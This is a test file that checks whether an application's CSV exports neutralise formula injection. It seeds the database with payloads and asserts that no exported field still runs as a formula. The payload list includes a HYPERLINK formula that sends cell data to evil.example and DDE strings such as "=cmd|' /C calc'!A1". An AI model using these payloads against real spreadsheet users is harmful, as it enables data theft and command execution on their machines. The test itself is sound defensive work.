import { afterAll, beforeAll, expect, test } from 'vitest'
import { nameOf, rawCalls } from '../contract-calls.ts'
import { readCsv, runsAsFormula } from '../read-csv.ts'
import type { Jar } from '../server.ts'
import { type Agency, openAgency } from './agency.ts'
import { sendCall, urlOf } from './send-call.ts'
import { poison } from './poison.ts'

let agency: Agency
let owner: Jar
beforeAll(async () => {
  agency = await openAgency()
  owner = await agency.jarOf(agency.people.owner)
})
afterAll(() => agency.close())

/** Every way to begin a formula, used in turn (OWASP, CSV injection). */
const beginnings = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  "'=",
  ';=',
  ' =',
  '＝',
  '"=',
  '=HYPERLINK("http://evil.example?x="&A1,"x")',
  "=cmd|' /C calc'!A1",
  '@SUM(1+1)*cmd|',
  '-2+3+cmd|',
]
let turn = 0
const asFormula = (text: string) =>
  `${beginnings[(turn += 1) % beginnings.length]}cmd|${text.slice(0, 40)}`

test('no CSV field is a formula, whatever people typed', async () => {
  const replaced = await poison(agency.db, asFormula)
  expect(replaced.size).toBeGreaterThan(60)
  const files: string[] = []
  const formulas: string[] = []
  for (const call of rawCalls) {
    if (call.path === '/api/live') continue
    for (const id of call.path.includes(':') ? [1, 2, 3, 4, 5] : [1]) {
      const answer = await sendCall(agency, call, urlOf(call, id), owner)
      if (
        answer.statusCode !== 200 ||
        !answer.headers['content-type']?.toString().startsWith('text/csv')
      )
        continue
      const fields = readCsv(answer.body).flat()
      if (fields.some((field) => field.includes('cmd|'))) files.push(nameOf(call))
      formulas.push(
        ...fields
          .filter((field) => runsAsFormula.test(field))
          .map((field) => `${nameOf(call)}: ${field}`),
      )
    }
  }
  expect(formulas).toEqual([])
  // The exports held fields that would have run without the guard.
  expect(new Set(files).size).toBeGreaterThan(12)
})
